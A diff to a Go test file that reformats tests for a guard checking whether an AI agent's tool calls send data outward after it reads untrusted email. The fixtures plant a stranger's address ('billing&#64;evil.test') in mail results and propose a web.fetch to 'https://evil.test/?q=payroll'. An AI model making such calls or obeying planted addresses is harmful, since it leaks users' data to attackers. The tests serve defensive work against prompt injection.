@@ -105,8 +105,9 @@ func TestTalkIsHeardOnce(t *testing.T) {
 func TestWhoHadItFirstDecides(t *testing.T) {
 	trusted := asked(`{"name":"supplier"}`, `{"mail":"`+stranger+`"}`)
 	for name, result := range map[string]string{
-		"text": "our address: " + stranger, "JSON": `{"text":"our address:\n` + stranger + `"}`, "JSON that was cut": `[{"text":"our address:\n` + stranger,
-		"lines of JSON": "{\"a\":1}\n{\"text\":\"\\n" + stranger + "\"}", "entities": "billing&#64;evil.test",
+		"text": "our address: " + stranger, "JSON": `{"text":"our address:\n` + stranger + `"}`,
+		"JSON that was cut": `[{"text":"our address:\n` + stranger,
+		"lines of JSON":     "{\"a\":1}\n{\"text\":\"\\n" + stranger + "\"}", "entities": "billing&#64;evil.test",
 	} {
 		t.Run(name, func(t *testing.T) {
 			mail := sentinel.Step{Skill: "email.read", Result: result, Trust: skills.Untrusted}
@@ -144,7 +145,8 @@ func TestAnEchoTurnsNothingInward(t *testing.T) {
 		"a trusted result":             {sentinel.NewTrace(asked(`{}`, `{"site":"evil.test"}`)), false},
 		"one before the stranger":      {sentinel.NewTrace(asked(`{}`, "evil.test"), mail), false},
 	} {
-		c, err := sentinel.NewCall(reg, touch.Env{NoFS: true}, sentinel.Proposal{Skill: "web.fetch", Args: []byte(`{"url":"https://evil.test/?q=payroll"}`), Grant: grant(t), Trace: tc.trace})
+		c, err := sentinel.NewCall(reg, touch.Env{NoFS: true},
+			sentinel.Proposal{Skill: "web.fetch", Args: []byte(`{"url":"https://evil.test/?q=payroll"}`), Grant: grant(t), Trace: tc.trace})
 		require.NoError(t, err)
 		require.Equal(t, tc.outward, c.Outward(), name)
 	}
